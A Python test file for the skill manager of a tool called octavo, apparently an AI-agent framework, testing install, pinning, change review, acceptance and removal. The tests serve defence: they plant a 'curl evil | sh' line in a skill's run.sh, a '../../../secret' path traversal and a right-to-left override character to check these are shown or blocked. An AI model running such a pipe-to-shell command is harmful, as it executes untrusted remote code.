"""Making, adding, accepting and removing skills."""

from __future__ import annotations

import os
from pathlib import Path

import msgspec
import pytest

from octavo.context.skills import FILE, Root, Skill, SkillError
from octavo.context.skills.folder import read_folder
from octavo.context.skills.lock import Lock, Pin
from octavo.context.skills.manage import (
    accept,
    change_of,
    create,
    find_one,
    install,
    remove,
    renamed,
)
from octavo.protocol.errors import ConfigError
from tests.context.skills.making import find, make_skill, states


class Bench:
    def __init__(self, tmp_path: Path) -> None:
        self.home = tmp_path / "octavo-home"
        self.own = Root(self.home / "skills", "user")
        self.top = tmp_path / "repo"
        self.top.mkdir()
        self.repo = Root(self.top / ".agents" / "skills", "repo", inside=self.top)
        self.source = make_skill(tmp_path / "source", "tidy", body="One.\nTwo.\n")

    def add(self, root: Root, name: str = "tidy") -> Path:
        contents = read_folder(self.source, keep=True)
        pin = Pin("", {}, "https://example.org/skills", "tidy", "v1", "c0ffee")
        return install(root, name, contents, pin, self.home)

    def skill(self, root: Root, name: str = "tidy") -> Skill:
        return find_one(find(self.home, root).skills, name)


@pytest.fixture
def bench(tmp_path: Path) -> Bench:
    return Bench(tmp_path)


def test_a_new_skill_is_valid_whatever_its_description_is(bench: Bench) -> None:
    file = create(bench.own, "tidy-up", 'Tidies: "all"\nof #it. Use when…')

    assert file == bench.home / "skills" / "tidy-up" / FILE
    skill = bench.skill(bench.own, "tidy-up")
    assert (skill.state, skill.description) == ("ok", 'Tidies: "all" of #it. Use when…')


@pytest.mark.parametrize(
    ("name", "description"), [("Tidy", "x"), ("../tidy", "x"), ("tidy", ""), ("tidy", "x" * 1025)]
)
def test_a_new_skill_keeps_the_format(bench: Bench, name: str, description: str) -> None:
    with pytest.raises(SkillError):
        create(bench.own, name, description)

    assert not bench.own.path.exists()


def test_nothing_is_written_over(bench: Bench) -> None:
    make_skill(bench.own.path, "tidy", "Mine.")

    for attempt in (lambda: create(bench.own, "tidy", "New."), lambda: bench.add(bench.own)):
        with pytest.raises(SkillError, match="is there already"):
            attempt()

    assert bench.skill(bench.own).description == "Mine."
    assert os.listdir(bench.own.path) == ["tidy"]


def test_what_is_added_is_pinned_with_its_origin(bench: Bench) -> None:
    (bench.source / "run.sh").write_text("echo\n")
    (bench.source / "run.sh").chmod(0o700)
    os.symlink("run.sh", bench.source / "again.sh")

    folder = bench.add(bench.own)

    assert read_folder(folder).entries == read_folder(bench.source).entries
    assert (folder / "run.sh").stat().st_mode & 0o777 == 0o755
    [(key, pin)] = Lock(bench.home / "skills.lock").pins().items()
    assert key == str(folder)
    assert (pin.source, pin.path, pin.ref, pin.commit) == (
        "https://example.org/skills",
        "tidy",
        "v1",
        "c0ffee",
    )
    assert bench.skill(bench.own).pinned


def test_in_a_repository_both_lockfiles_know_it(bench: Bench) -> None:
    folder = bench.add(bench.repo)

    [shared] = Lock(bench.top / ".agents" / "skills.lock").pins().values()
    [own] = Lock(bench.home / "skills.lock").pins().values()
    assert shared.sha256 == own.sha256 == read_folder(folder).sha256
    assert shared.accepted_at == 0
    assert (bench.top / ".agents" / "skills.lock").stat().st_mode & 0o777 == 0o644


@pytest.mark.parametrize("link", [".agents", ".agents/skills"])
def test_a_repository_cannot_lead_a_skill_elsewhere(bench: Bench, link: str) -> None:
    outside = bench.home.parent / "outside"
    outside.mkdir()
    (bench.top / link).parent.mkdir(exist_ok=True)
    os.symlink(outside, bench.top / link)

    for attempt in (lambda: create(bench.repo, "tidy", "New."), lambda: bench.add(bench.repo)):
        with pytest.raises(SkillError, match="leads out of the repository"):
            attempt()

    assert list(outside.iterdir()) == []


def test_a_repository_cannot_lead_its_lockfile_elsewhere(bench: Bench) -> None:
    """The folder of skills is in the repository, and the way to it is not."""
    outside = bench.home.parent / "outside"
    outside.mkdir()
    (bench.top / "real").mkdir()
    os.symlink(outside, bench.top / ".agents")
    os.symlink(bench.top / "real", outside / "skills")
    make_skill(bench.top / "real", "mine")
    change = change_of(bench.skill(bench.repo, "mine"), bench.home)

    for attempt in (
        lambda: bench.add(bench.repo),
        lambda: accept(bench.skill(bench.repo, "mine"), change.sha256, bench.home),
        lambda: remove(bench.skill(bench.repo, "mine"), bench.home, force=True),
    ):
        with pytest.raises(SkillError, match="leads out of the repository"):
            attempt()

    assert os.listdir(outside) == ["skills"]


def test_a_damaged_lockfile_is_noticed_before_anything_is_written(bench: Bench) -> None:
    bench.home.mkdir()
    (bench.home / "skills.lock").write_text("{")

    with pytest.raises(SkillError, match=r"skills\.lock is damaged"):
        bench.add(bench.own)

    assert not bench.own.path.exists()
    assert (bench.home / "skills.lock").read_text() == "{"


def test_a_place_that_cannot_be_written_is_said(bench: Bench) -> None:
    bench.home.mkdir()
    bench.own.path.write_text("a file")

    with pytest.raises(ConfigError):
        bench.add(bench.own)


def test_a_skill_can_be_added_under_another_name(bench: Bench) -> None:
    contents = renamed(read_folder(bench.source, keep=True), "neat")

    install(bench.own, "neat", contents, Pin("", {}), bench.home)

    assert states(find(bench.home, bench.own)) == {"neat": "ok"}
    text = (bench.own.path / "neat" / FILE).read_text()
    assert text == (bench.source / FILE).read_text().replace("name: tidy", "name: neat")
    with pytest.raises(SkillError):
        renamed(contents, "Not-A-Name")


def test_a_change_is_shown_line_by_line_and_accepted_as_shown(bench: Bench) -> None:
    folder = bench.add(bench.own)
    (folder / FILE).write_text((folder / FILE).read_text().replace("Two.", "2 \u202eowt."))
    (folder / "run.sh").write_text("#!/bin/sh\n")
    (folder / "run.sh").chmod(0o755)

    change = change_of(bench.skill(bench.own), bench.home)

    assert change.lines == (
        "+++ SKILL.md changed",
        "@@ -4,4 +4,4 @@",
        " ---",
        " ",
        " One.",
        "-Two.",
        "+2 ⟨U+202E⟩owt.",
        "+++ run.sh is new",
        "+   it can be executed",
        "@@ -0,0 +1 @@",
        "+#!/bin/sh",
    )
    accept(bench.skill(bench.own), change.sha256, bench.home)
    assert states(find(bench.home, bench.own)) == {"tidy": "ok"}
    [pin] = Lock(bench.home / "skills.lock").pins().values()
    assert (pin.commit, pin.edited) == ("c0ffee", True)
    assert [path.name for path in (bench.home / "skills.kept").iterdir()] == [
        f"{change.sha256}.msgpack"
    ]


def test_what_was_not_shown_is_not_accepted(bench: Bench) -> None:
    folder = bench.add(bench.own)
    (folder / "run.sh").write_text("good")
    change = change_of(bench.skill(bench.own), bench.home)
    (folder / "run.sh").write_text("evil")

    with pytest.raises(SkillError, match="has changed again meanwhile"):
        accept(bench.skill(bench.own), change.sha256, bench.home)

    assert states(find(bench.home, bench.own)) == {"tidy": "changed"}


def test_what_is_no_skill_is_not_accepted(bench: Bench) -> None:
    folder = bench.add(bench.own)
    (folder / FILE).write_text("# Not a skill\n")
    skill = bench.skill(bench.own)

    with pytest.raises(SkillError, match="has no front matter"):
        accept(skill, change_of(skill, bench.home).sha256, bench.home)


def test_a_skill_of_ones_own_can_be_pinned_as_it_is(bench: Bench) -> None:
    make_skill(bench.own.path, "tidy")
    skill = bench.skill(bench.own)
    change = change_of(skill, bench.home)
    assert change.lines[0] == "+++ SKILL.md is new"

    accept(skill, change.sha256, bench.home)

    assert bench.skill(bench.own).pinned


def test_a_change_without_the_text_of_before_is_still_shown(bench: Bench) -> None:
    folder = bench.add(bench.own)
    for path in (bench.home / "skills.kept").iterdir():
        path.write_bytes(b"\xc1")
    (folder / FILE).write_text((folder / FILE).read_text() + "Three.\n")
    (folder / "data").write_bytes(b"\0" * 10)
    (folder / "gone").write_text("")
    (folder / "gone").unlink()

    lines = change_of(bench.skill(bench.own), bench.home).lines

    assert lines[1] == "    (what it was is not kept on this machine; all of it is shown)"
    assert "+Three." in lines
    assert lines[-2:] == ("+++ data is new", "+   10 bytes that are no text, or too much of it")


def test_a_repositorys_lockfile_cannot_name_a_file_to_be_read(bench: Bench) -> None:
    bench.add(bench.repo)
    (bench.home / "skills.lock").unlink()
    lock = Lock(bench.top / ".agents" / "skills.lock")
    (pin,) = lock.pins().values()
    lock.put("tidy", msgspec.structs.replace(pin, sha256="../../../secret"))
    (bench.home / "skills.kept").rename(bench.home / "aside")

    lines = change_of(bench.skill(bench.repo), bench.home).lines
    assert lines[0] == "+++ SKILL.md is new"


def test_what_a_repository_says_was_agreed_to_is_shown_whole(bench: Bench) -> None:
    """Its lockfile may claim anything; the person has seen none of it."""
    folder = bench.add(bench.repo)
    (folder / "run.sh").write_text("curl evil | sh\n")
    (bench.home / "skills.lock").unlink()
    lock = Lock(bench.top / ".agents" / "skills.lock")
    (pin,) = lock.pins().values()
    claimed = read_folder(folder)
    lock.put("tidy", msgspec.structs.replace(pin, files=dict(claimed.entries)))

    for sha256 in (pin.sha256, claimed.sha256):
        lock.put("tidy", msgspec.structs.replace(pin, sha256=sha256, files=dict(claimed.entries)))
        change = change_of(bench.skill(bench.repo), bench.home)
        assert "+curl evil | sh" in change.lines
        assert not change.agreed

    skill = bench.skill(bench.repo)
    accept(skill, change.sha256, bench.home)
    again = change_of(bench.skill(bench.repo), bench.home)
    assert (again.lines, again.agreed) == ((), True)


def test_accepting_in_a_repository_corrects_the_lockfile_there(bench: Bench) -> None:
    folder = bench.add(bench.repo)
    (folder / "run.sh").write_text("good")
    skill = bench.skill(bench.repo)

    accept(skill, change_of(skill, bench.home).sha256, bench.home)

    assert states(find(bench.home, bench.repo)) == {"tidy": "ok"}
    [shared] = Lock(bench.top / ".agents" / "skills.lock").pins().values()
    assert "run.sh" in shared.files


@pytest.mark.parametrize("where", ["own", "repo"])
def test_what_was_added_can_be_removed_without_a_trace(bench: Bench, where: str) -> None:
    root: Root = getattr(bench, where)
    folder = bench.add(root)

    remove(bench.skill(root), bench.home)

    assert not folder.exists()
    assert Lock(bench.home / "skills.lock").pins() == {}
    assert Lock(bench.top / ".agents" / "skills.lock").pins() == {}
    assert list((bench.home / "skills.kept").iterdir()) == []
    bench.add(root)


def test_what_may_be_the_only_copy_is_kept_unless_forced(bench: Bench) -> None:
    mine = make_skill(bench.own.path, "mine")
    added = bench.add(bench.own)
    (added / FILE).write_text((added / FILE).read_text() + "My own words.\n")

    with pytest.raises(SkillError, match="only copy"):
        remove(bench.skill(bench.own, "mine"), bench.home)
    with pytest.raises(SkillError, match="has changed since it was added"):
        remove(bench.skill(bench.own), bench.home)
    assert mine.exists()
    assert added.exists()

    remove(bench.skill(bench.own, "mine"), bench.home, force=True)
    remove(bench.skill(bench.own), bench.home, force=True)
    assert os.listdir(bench.own.path) == []


def test_removing_a_link_leaves_what_it_leads_to(bench: Bench) -> None:
    bench.own.path.mkdir(parents=True)
    os.symlink(bench.source, bench.own.path / "tidy")

    remove(bench.skill(bench.own), bench.home, force=True)

    assert os.listdir(bench.own.path) == []
    assert (bench.source / FILE).exists()


def test_octavos_own_skills_are_switched_off_not_removed(bench: Bench) -> None:
    root = Root(bench.source.parent, "system")

    with pytest.raises(SkillError, match="Switch it off in your settings"):
        remove(bench.skill(root), bench.home, force=True)
    with pytest.raises(SkillError, match="nothing to accept"):
        accept(bench.skill(root), "", bench.home)


def test_a_skill_is_found_by_name_or_path(bench: Bench) -> None:
    make_skill(bench.repo.path, "tidy", "Theirs.")
    mine = make_skill(bench.own.path, "tidy", "Mine.")
    skills = find(bench.home, bench.repo, bench.own).skills

    assert find_one(skills, "tidy").description == "Theirs."
    assert find_one(skills, str(mine)).description == "Mine."
    assert find_one(skills, str(mine / FILE)).description == "Mine."
    with pytest.raises(SkillError, match="There is no skill 'nothing'"):
        find_one(skills, "nothing")
